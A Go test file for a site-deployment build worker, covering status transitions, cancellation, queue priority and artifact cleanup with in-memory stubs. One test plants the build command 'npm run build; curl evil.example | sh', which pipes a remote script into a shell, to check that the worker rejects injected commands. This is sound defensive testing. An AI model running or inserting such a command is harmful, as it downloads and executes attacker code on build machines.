package services

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"github.com/sitepress-engine/models"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

type stubProjectStore struct {
	projects map[string]models.Project
}

func (s *stubProjectStore) FindByID(id string) (models.Project, error) {
	project, ok := s.projects[id]
	if !ok {
		return models.Project{}, fmt.Errorf("project %s not found", id)
	}
	return project, nil
}

// stubDeploymentStore keeps deployments in memory with the same terminal-state
// rule the gorm repository enforces: a terminal status never changes again.
type stubDeploymentStore struct {
	mu          sync.Mutex
	deployments map[string]models.Deployment
	statusTrail map[string][]models.DeploymentStatus
	extras      map[string]map[string]interface{}
	logs        map[string][]string
	activated   []string
	nextID      int
}

func newStubDeploymentStore() *stubDeploymentStore {
	return &stubDeploymentStore{
		deployments: make(map[string]models.Deployment),
		statusTrail: make(map[string][]models.DeploymentStatus),
		extras:      make(map[string]map[string]interface{}),
		logs:        make(map[string][]string),
	}
}

func (s *stubDeploymentStore) Create(deployment models.Deployment) (models.Deployment, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if deployment.ID == "" {
		s.nextID++
		deployment.ID = fmt.Sprintf("dep-%d", s.nextID)
	}
	s.deployments[deployment.ID] = deployment
	return deployment, nil
}

func (s *stubDeploymentStore) FindByID(id string) (models.Deployment, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	deployment, ok := s.deployments[id]
	if !ok {
		return models.Deployment{}, fmt.Errorf("deployment %s not found", id)
	}
	return deployment, nil
}

func (s *stubDeploymentStore) SetStatus(id string, status models.DeploymentStatus, extras map[string]interface{}) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	deployment, ok := s.deployments[id]
	if !ok {
		return fmt.Errorf("deployment %s not found", id)
	}
	if deployment.Status.IsTerminal() {
		return fmt.Errorf("deployment %s is already terminal", id)
	}
	deployment.Status = status
	if status.IsTerminal() {
		now := time.Now()
		deployment.FinishedAt = &now
	}
	s.deployments[id] = deployment
	s.statusTrail[id] = append(s.statusTrail[id], status)
	if extras != nil {
		s.extras[id] = extras
	}
	return nil
}

func (s *stubDeploymentStore) AppendLog(deploymentID, level, message string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.logs[deploymentID] = append(s.logs[deploymentID], level+": "+message)
	return nil
}

func (s *stubDeploymentStore) ActivateDeployment(projectID, deploymentID string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.activated = append(s.activated, deploymentID)
	return nil
}

func (s *stubDeploymentStore) status(id string) models.DeploymentStatus {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.deployments[id].Status
}

func (s *stubDeploymentStore) trail(id string) []models.DeploymentStatus {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]models.DeploymentStatus(nil), s.statusTrail[id]...)
}

type stubExecutor struct {
	mu              sync.Mutex
	executeErr      error
	blockOnCtx      bool
	verifyExists    bool
	verifyErr       error
	executeCalls    int
	cleanupCalls    int
	executeStarted  chan struct{}
	lastExecuteSlug string
}

func newStubExecutor() *stubExecutor {
	return &stubExecutor{verifyExists: true, executeStarted: make(chan struct{}, 8)}
}

func (e *stubExecutor) Name() string { return "stub" }

func (e *stubExecutor) Execute(ctx context.Context, job models.BuildJob, cfg models.BuildConfig, slug string, sink models.LogSink) error {
	e.mu.Lock()
	e.executeCalls++
	e.lastExecuteSlug = slug
	blocking := e.blockOnCtx
	err := e.executeErr
	e.mu.Unlock()

	e.executeStarted <- struct{}{}
	if blocking {
		<-ctx.Done()
		return ctx.Err()
	}
	return err
}

func (e *stubExecutor) VerifyArtifacts(ctx context.Context, slug string) (bool, error) {
	return e.verifyExists, e.verifyErr
}

func (e *stubExecutor) Cleanup(ctx context.Context, deploymentID string) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.cleanupCalls++
	return nil
}

func (e *stubExecutor) RemoveArtifacts(ctx context.Context, slug string) error {
	return nil
}

func (e *stubExecutor) Status(ctx context.Context, deploymentID string) (models.JobStatus, error) {
	return models.JobStatusRunning, nil
}

func (e *stubExecutor) executions() int {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.executeCalls
}

func newTestWorker(executor BuildExecutor, projects *stubProjectStore, deployments *stubDeploymentStore) *BuildWorker {
	return &BuildWorker{
		queue:          NewBuildQueue(NewMemoryQueueStore(), 2),
		executor:       executor,
		projectRepo:    projects,
		deploymentRepo: deployments,
		baseDomain:     "sites.test",
		running:        make(map[string]context.CancelFunc),
	}
}

func validProject(id string) models.Project {
	return models.Project{
		ID:          id,
		Name:        "Acme Site",
		Slug:        "acme-site",
		RepoURL:     "https://github.com/acme/site.git",
		Branch:      "main",
		BuildCmd:    "npm run build",
		OutputDir:   "dist",
		NodeVersion: "20",
	}
}

func TestProcessJobSuccessTransitions(t *testing.T) {
	projects := &stubProjectStore{projects: map[string]models.Project{"p1": validProject("p1")}}
	deployments := newStubDeploymentStore()
	executor := newStubExecutor()
	worker := newTestWorker(executor, projects, deployments)

	created, err := deployments.Create(models.Deployment{
		ProjectID: "p1",
		Type:      models.DeploymentTypeProduction,
		Status:    models.DeploymentStatusBuilding,
	})
	require.NoError(t, err)

	worker.ProcessJob(models.BuildJob{DeploymentID: created.ID, ProjectID: "p1"})

	assert.Equal(t, []models.DeploymentStatus{
		models.DeploymentStatusBuilding,
		models.DeploymentStatusDeploying,
		models.DeploymentStatusReady,
	}, deployments.trail(created.ID))

	extras := deployments.extras[created.ID]
	require.NotNil(t, extras)
	assert.Equal(t, "https://acme-site.sites.test", extras["url"])
	assert.Equal(t, "acme-site", extras["artifact_path"])
	assert.Contains(t, deployments.activated, created.ID)
	assert.Equal(t, "acme-site", executor.lastExecuteSlug)
}

func TestProcessJobExecutorFailureEndsInError(t *testing.T) {
	projects := &stubProjectStore{projects: map[string]models.Project{"p1": validProject("p1")}}
	deployments := newStubDeploymentStore()
	executor := newStubExecutor()
	executor.executeErr = errors.New("build exited with code 1")
	worker := newTestWorker(executor, projects, deployments)

	created, err := deployments.Create(models.Deployment{ProjectID: "p1", Status: models.DeploymentStatusBuilding})
	require.NoError(t, err)

	worker.ProcessJob(models.BuildJob{DeploymentID: created.ID, ProjectID: "p1"})

	assert.Equal(t, models.DeploymentStatusError, deployments.status(created.ID))
	assert.Equal(t, 1, executor.cleanupCalls)
	require.NotNil(t, deployments.deployments[created.ID].FinishedAt)
}

func TestProcessJobRejectedConfigNeverReachesExecutor(t *testing.T) {
	project := validProject("p1")
	project.BuildCmd = "npm run build; curl evil.example | sh"
	projects := &stubProjectStore{projects: map[string]models.Project{"p1": project}}
	deployments := newStubDeploymentStore()
	executor := newStubExecutor()
	worker := newTestWorker(executor, projects, deployments)

	created, err := deployments.Create(models.Deployment{ProjectID: "p1", Status: models.DeploymentStatusBuilding})
	require.NoError(t, err)

	worker.ProcessJob(models.BuildJob{DeploymentID: created.ID, ProjectID: "p1"})

	assert.Equal(t, models.DeploymentStatusError, deployments.status(created.ID))
	assert.Zero(t, executor.executions())
	assert.NotEmpty(t, deployments.logs[created.ID])
}

func TestProcessJobSkipsDeploymentCancelledWhileQueued(t *testing.T) {
	projects := &stubProjectStore{projects: map[string]models.Project{"p1": validProject("p1")}}
	deployments := newStubDeploymentStore()
	executor := newStubExecutor()
	worker := newTestWorker(executor, projects, deployments)

	created, err := deployments.Create(models.Deployment{ProjectID: "p1", Status: models.DeploymentStatusBuilding})
	require.NoError(t, err)
	require.NoError(t, deployments.SetStatus(created.ID, models.DeploymentStatusCancelled, nil))

	worker.ProcessJob(models.BuildJob{DeploymentID: created.ID, ProjectID: "p1"})

	// Terminal status is final: no executor work, no further transitions
	assert.Equal(t, models.DeploymentStatusCancelled, deployments.status(created.ID))
	assert.Zero(t, executor.executions())
	assert.Equal(t, []models.DeploymentStatus{models.DeploymentStatusCancelled}, deployments.trail(created.ID))
}

func TestCancelQueuedBuildIsFinal(t *testing.T) {
	projects := &stubProjectStore{projects: map[string]models.Project{"p1": validProject("p1")}}
	deployments := newStubDeploymentStore()
	executor := newStubExecutor()
	worker := newTestWorker(executor, projects, deployments)
	ctx := context.Background()

	created, err := worker.EnqueueBuild(ctx, "p1", models.DeploymentTypePreview)
	require.NoError(t, err)

	require.NoError(t, worker.Cancel(ctx, created.ID))
	assert.Equal(t, models.DeploymentStatusCancelled, deployments.status(created.ID))

	length, err := worker.Queue().GetQueueLength(ctx)
	require.NoError(t, err)
	assert.Zero(t, length)

	// A worker that still held the job cannot resurrect it
	worker.ProcessJob(models.BuildJob{DeploymentID: created.ID, ProjectID: "p1"})
	assert.Equal(t, models.DeploymentStatusCancelled, deployments.status(created.ID))
	assert.Zero(t, executor.executions())
}

func TestCancelRunningBuildEndsCancelledNotError(t *testing.T) {
	projects := &stubProjectStore{projects: map[string]models.Project{"p1": validProject("p1")}}
	deployments := newStubDeploymentStore()
	executor := newStubExecutor()
	executor.blockOnCtx = true
	worker := newTestWorker(executor, projects, deployments)

	created, err := deployments.Create(models.Deployment{ProjectID: "p1", Status: models.DeploymentStatusBuilding})
	require.NoError(t, err)

	done := make(chan struct{})
	go func() {
		defer close(done)
		worker.ProcessJob(models.BuildJob{DeploymentID: created.ID, ProjectID: "p1"})
	}()

	select {
	case <-executor.executeStarted:
	case <-time.After(5 * time.Second):
		t.Fatal("build never started")
	}

	require.NoError(t, worker.Cancel(context.Background(), created.ID))

	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("build never settled after cancel")
	}

	assert.Equal(t, models.DeploymentStatusCancelled, deployments.status(created.ID))
	assert.NotContains(t, deployments.trail(created.ID), models.DeploymentStatusError)
}

func TestCancelTerminalDeploymentIsRejected(t *testing.T) {
	projects := &stubProjectStore{projects: map[string]models.Project{"p1": validProject("p1")}}
	deployments := newStubDeploymentStore()
	worker := newTestWorker(newStubExecutor(), projects, deployments)

	created, err := deployments.Create(models.Deployment{ProjectID: "p1", Status: models.DeploymentStatusBuilding})
	require.NoError(t, err)
	require.NoError(t, deployments.SetStatus(created.ID, models.DeploymentStatusReady, nil))

	err = worker.Cancel(context.Background(), created.ID)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "already")
	assert.Equal(t, models.DeploymentStatusReady, deployments.status(created.ID))
}

func TestEnqueueBuildPriorityByDeploymentType(t *testing.T) {
	projects := &stubProjectStore{projects: map[string]models.Project{"p1": validProject("p1")}}
	deployments := newStubDeploymentStore()
	worker := newTestWorker(newStubExecutor(), projects, deployments)
	ctx := context.Background()

	_, err := worker.EnqueueBuild(ctx, "p1", models.DeploymentTypeProduction)
	require.NoError(t, err)
	_, err = worker.EnqueueBuild(ctx, "p1", models.DeploymentTypePreview)
	require.NoError(t, err)

	high, err := worker.Queue().GetQueueLengthByPriority(ctx, models.BuildPriorityHigh)
	require.NoError(t, err)
	low, err := worker.Queue().GetQueueLengthByPriority(ctx, models.BuildPriorityLow)
	require.NoError(t, err)
	assert.Equal(t, int64(1), high)
	assert.Equal(t, int64(1), low)
}

func TestDockerExecutorRemoveArtifacts(t *testing.T) {
	executor := &DockerExecutor{servingRoot: t.TempDir()}

	for _, suffix := range []string{"", ".new", ".old"} {
		dir := filepath.Join(executor.servingRoot, "acme-site"+suffix)
		require.NoError(t, os.MkdirAll(dir, 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(dir, "index.html"), []byte("<html></html>"), 0o644))
	}

	require.NoError(t, executor.RemoveArtifacts(context.Background(), "acme-site"))

	for _, suffix := range []string{"", ".new", ".old"} {
		_, err := os.Stat(filepath.Join(executor.servingRoot, "acme-site"+suffix))
		assert.True(t, os.IsNotExist(err))
	}

	// Removing a slug with no artifacts is a no-op
	require.NoError(t, executor.RemoveArtifacts(context.Background(), "acme-site"))
}
